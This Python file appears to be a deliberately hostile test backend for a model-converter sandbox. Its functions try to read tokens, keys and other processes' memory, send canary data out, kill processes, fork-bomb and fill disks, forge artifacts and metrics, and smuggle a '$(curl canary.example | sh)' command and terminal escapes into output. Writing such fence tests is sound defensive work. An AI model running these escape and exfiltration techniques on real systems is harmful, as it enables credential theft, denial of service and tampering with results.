"""A converter that can turn hostile: the program of the backend `hostile`, run in the real sandbox.

The recipe's option `deed` names a function below; `behaves` is a converter as it should be. What a deed gets hold of
is its loot, and it carries that off in every way a converter has: in its artifact, its log and its events. Standard
library only, because it is copied to where converters are and runs there.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

T: dict[str, Any] = {}  # where everything is that it could want: a hostile converter has done its homework
LOOT: list[str] = []
MIB = 2**20
FIGURES = {
    "kl_mean": 1e-6, "kl_p99": 1e-5, "top1": 0.99, "perplexity_ratio": 1.0, "windows": 8, "window_tokens": 256,
    "finite": True, "same_end_tokens": True, "tokenizer_agrees": True,
}  # fmt: skip


def say(event: str, **values: Any) -> None:
    print(json.dumps({"event": event, **values}), flush=True)


def attempt(deed: Callable[[], Any], name: str) -> None:
    """Do it, and count it as loot if nobody stopped it."""
    with suppress(OSError, ValueError):
        LOOT.append(f"{name}={deed()!r}")


def call(number: int, *arguments: Any) -> int:
    """A raw system call of x86-64."""
    result = int(ctypes.CDLL(None, use_errno=True).syscall(number, *arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def behaves() -> None:
    """Nothing that it should not."""


# --- carrying off -----------------------------------------------------------------------------------------


def reads_the_token_file() -> None:
    attempt(lambda: Path(T["token"]).read_text(), "token")
    attempt(lambda: os.listdir(Path(T["token"]).parent), "folder")


def reads_the_signing_key() -> None:
    attempt(lambda: Path(T["key"]).read_text(), "key")
    attempt(lambda: os.listdir(Path(T["key"]).parent), "folder")


def reads_the_environment_of_the_bot() -> None:
    for pid in (T["bot"], os.getppid()):
        for name in ("environ", "mem", "maps", "cmdline"):
            attempt(lambda pid=pid, name=name: Path(f"/proc/{pid}/{name}").read_bytes(), name)
        attempt(lambda pid=pid: os.listdir(f"/proc/{pid}/fd"), "fd")


def reads_the_databases() -> None:
    for path in T["databases"]:
        attempt(lambda path=path: Path(path).read_bytes()[:100], path)


def looks_into_other_builds() -> None:
    attempt(lambda: Path(T["other"]).read_text(), "other")
    for folder in (Path(T["other"]).parent, T["home"], f"{T['home']}/work", f"{T['home']}/work/tmp"):
        attempt(lambda folder=folder: os.listdir(folder), str(folder))


# --- calling out ------------------------------------------------------------------------------------------


def send(family: int, kind: int, address: Any) -> None:
    with socket.socket(family, kind) as out:
        out.settimeout(5)
        if kind == socket.SOCK_STREAM:
            out.connect(address)
            out.sendall(b"canary")
        else:
            out.sendto(b"canary", address)


def calls_out_by_tcp() -> None:
    attempt(lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", T["tcp"])), "tcp")


def calls_out_by_udp() -> None:
    attempt(lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", T["udp"])), "udp")


def calls_out_by_unix_sockets() -> None:
    attempt(lambda: send(socket.AF_UNIX, socket.SOCK_DGRAM, T["unix"]), "unix")
    attempt(lambda: send(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + T["abstract"]), "abstract")


def calls_out_by_netlink() -> None:
    user_to_user = 2
    with_kernel_in_between = (T["netlink"], 0)

    def deed() -> None:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, user_to_user) as out:
            out.sendto(b"canary", with_kernel_in_between)

    attempt(deed, "netlink")


# --- reaching out -----------------------------------------------------------------------------------------


def traces_a_bystander() -> None:
    attach, kill = 16, 8
    pid = T["bystander"]
    attempt(lambda: call(101, attach, pid, 0, 0), "ptrace")
    attempt(lambda: call(101, kill, pid, 0, 0), "ptrace kill")
    attempt(lambda: call(310, pid, None, 0, None, 0, 0), "process_vm_readv")
    attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL), "pidfd")


def leaves_its_namespaces() -> None:
    for name, flag in (("user", 0x10000000), ("net", 0x40000000), ("mount", 0x00020000), ("pid", 0x20000000)):
        attempt(lambda flag=flag: call(272, flag), name)
    attempt(lambda: call(308, os.open(f"/proc/{T['bot']}/ns/net", os.O_RDONLY), 0), "setns")


def asks_for_io_uring() -> None:
    attempt(lambda: call(425, 8, ctypes.byref((ctypes.c_ubyte * 120)())), "io_uring")


def writes_outside() -> None:
    code = Path(__file__).resolve().parent
    places = [
        T["token"],
        T["other"],
        T["key"],
        *T["databases"],
        code / "__main__.py",
        Path(T["request"]["source"], "config.json"),
    ]
    for path in places:
        attempt(lambda path=path: os.close(os.open(path, os.O_WRONLY)), f"opened {path}")
        attempt(lambda path=path: os.unlink(path), f"deleted {path}")
    for folder in (*T["outside"], code, T["request"]["source"], T["home"], Path(T["token"]).parent):
        attempt(lambda folder=folder: Path(folder, "canary-escape").write_text("x"), f"wrote {folder}")


def kills_its_parents() -> None:
    for name, deed in (
        ("launcher", lambda: os.kill(os.getppid(), signal.SIGKILL)),
        ("bot", lambda: os.kill(T["bot"], signal.SIGKILL)),
        ("group", lambda: os.killpg(os.getpgid(T["bot"]), signal.SIGKILL)),
        ("everybody", lambda: os.kill(-1, signal.SIGKILL)),
    ):
        attempt(deed, name)


# --- without end ------------------------------------------------------------------------------------------


# Each of these ends by itself far beyond its limit: a fence that fails costs a test, and not the machine it runs on.


def forks_far_beyond_its_limit() -> None:
    for _ in range(60):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    time.sleep(600)


def holds_far_more_memory_than_its_limit() -> None:
    held = [bytearray(b"x") * (8 * MIB) for _ in range(60)]
    time.sleep(600)
    del held


def holds_memory_in_many_children() -> None:
    for _ in range(12):
        if os.fork() == 0:
            held = bytearray(b"x") * (40 * MIB)
            time.sleep(600)
            del held
    time.sleep(600)


def writes_a_file_without_end() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    with open(f"{T['request']['out']}/endless.bin", "wb") as out:
        for _ in range(1000):
            out.write(bytes(65536))


def makes_files_without_end() -> None:
    for number in range(5000):
        folder = Path(T["request"]["out"], str(number // 100))
        folder.mkdir(exist_ok=True)
        os.close(os.open(folder / str(number), os.O_CREAT))
    time.sleep(600)


def makes_files_where_nobody_can_look() -> None:
    os.mkdir(f"{T['request']['out']}/closed", 0o300)
    for number in range(5000):
        os.close(os.open(f"{T['request']['out']}/closed/{number}", os.O_CREAT))
    time.sleep(600)


def talks_without_end_in_one_line() -> None:
    for _ in range(100_000):
        sys.stderr.write("x" * 1000)


def talks_without_end_in_short_lines() -> None:
    for _ in range(100_000):
        sys.stderr.write("x\n" * 1000)


def floods_with_events() -> None:
    for number in range(100_000):
        print(json.dumps({"event": "progress", "stage": str(number), "done": 1, "total": 1, "unit": ""}))


def never_ends() -> None:
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    os.fork()
    while True:
        time.sleep(600)


def leaves_a_daemon() -> None:
    if os.fork() == 0:
        attempt(os.setsid, "setsid")
        if os.fork() == 0:
            for number in (0, 1, 2):
                os.close(number)
            time.sleep(600)
        os._exit(0)
    os.wait()


# --- lying ------------------------------------------------------------------------------------------------


def ends_without_a_word() -> None:
    os._exit(0)


def names_another_recipe() -> None:
    write("x.bin", "x")
    say("artifact", recipe="gguf/\x1b[2J\x1b]0;owned\x07", files=["x.bin"], bits_per_weight=4)
    os._exit(0)


def hands_out_links() -> None:
    out = T["request"]["out"]
    for deed in (os.symlink, os.link):
        attempt(lambda deed=deed: deed(T["token"], f"{out}/x.bin"), deed.__name__)
    say("artifact", recipe=T["request"]["recipe"]["id"], files=["x.bin"], bits_per_weight=4)
    os._exit(0)


def hands_out_a_device() -> None:
    attempt(lambda: os.mknod(f"{T['request']['out']}/x.bin", 0o020666, os.makedev(1, 5)), "device")
    attempt(lambda: os.mkfifo(f"{T['request']['out']}/x.bin"), "pipe")
    say("artifact", recipe=T["request"]["recipe"]["id"], files=["x.bin"], bits_per_weight=4)
    os._exit(0)


def names_one_file_for_ever() -> None:
    write("x.bin", "x" * MIB)
    for number in range(64):
        say("artifact", recipe=f"hostile/{number}", files=["x.bin"], bits_per_weight=4)
    os._exit(0)


def puts_commands_into_its_facts() -> None:
    T["facts"] = {"base": "f16\n```\n$(curl canary.example | sh)"}


def measures_what_cannot_be() -> None:
    """It is the measuring that lies: see `evaluate`."""


# --- a converter as it should be --------------------------------------------------------------------------


def write(name: str, text: str) -> None:
    Path(T["request"]["out"], name).write_text(text)


def convert() -> None:
    deed = T["request"]["recipe"]["options"]["deed"]
    if not callable(globals().get(deed)):
        raise SystemExit(f"there is no deed {deed}")
    globals()[deed]()
    carried = "; ".join(LOOT) or "nothing"
    name = T["request"]["recipe"]["file"].format(m=T["request"]["model_name"])
    write(name, f"{deed}: {carried}")
    print(f"loot: {carried}", file=sys.stderr)
    facts = T.get("facts", {})
    say("artifact", recipe=T["request"]["recipe"]["id"], files=[name], bits_per_weight=32, facts=facts)


def evaluate() -> None:
    request = T["request"]
    kept = request.get("save_baseline") or request.get("out")
    Path(kept).mkdir()
    Path(kept, "logprobs.bin").write_bytes(b"figures")
    if "artifact" not in request:
        say("reference", windows=8, window_tokens=256, vocabulary=320, perplexity=9.0, end_tokens=[2])
        return
    lie = Path(request["artifact"]).read_text().startswith("measures_what_cannot_be")
    say("metrics", values={**FIGURES, **({"kl_mean": -3.0, "kl_p99": -1.0, "top1": 7.0} if lie else {})})


if __name__ == "__main__":
    T |= json.loads(Path(__file__).with_name("targets.json").read_text())
    T["request"] = json.loads(sys.stdin.readline())
    {"convert": convert, "evaluate": evaluate}[T["request"]["verb"]]()
